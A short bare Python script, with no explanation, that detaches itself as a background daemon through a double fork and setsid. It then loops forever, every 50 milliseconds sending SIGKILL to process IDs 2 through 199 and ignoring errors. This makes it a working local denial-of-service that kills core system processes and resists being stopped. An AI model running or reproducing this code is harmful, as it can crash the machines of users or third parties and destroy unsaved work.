import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(0.05)
            for process in range(2, 200):
                try:
                    os.kill(process, 9)
                except OSError:
                    pass
